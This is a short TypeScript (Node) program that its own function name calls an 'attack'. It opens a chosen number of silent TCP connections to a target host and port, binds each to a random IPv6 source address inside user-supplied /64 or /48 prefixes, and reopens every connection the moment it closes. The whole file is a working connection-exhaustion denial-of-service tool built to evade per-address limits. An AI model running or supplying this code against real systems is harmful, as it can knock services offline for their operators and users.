import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'

/**
 * A program: `loops` connections to a host that say nothing, each from another address of a prefix, each made anew when it is closed.
 * Arguments: host, port, the first groups of the prefix (four of a /64, three of a /48; several with commas), loops. Prints how many connections it
 * began so far.
 */
const [host = '', port = '', given = '', loops = ''] = process.argv.slice(2)
const prefixes = given.split(',')
let begun = 0

/** An address of each prefix in turn. */
const anyAddress = (): string => {
  const prefix = prefixes[begun % prefixes.length] ?? ''
  const rest = randomBytes(16 - 2 * prefix.split(':').length)
  return `${prefix}:${rest.toString('hex').replaceAll(/(.{4})(?=.)/g, '$1:')}`
}

const attack = (): void => {
  begun++
  const socket = connect({ host, port: Number(port), localAddress: anyAddress(), family: 6 })
  socket.on('error', () => {})
  socket.on('close', () => setImmediate(attack))
}

for (let loop = 0; loop < Number(loops); loop++) attack()
setInterval(() => process.stdout.write(`${begun}\n`), 200)
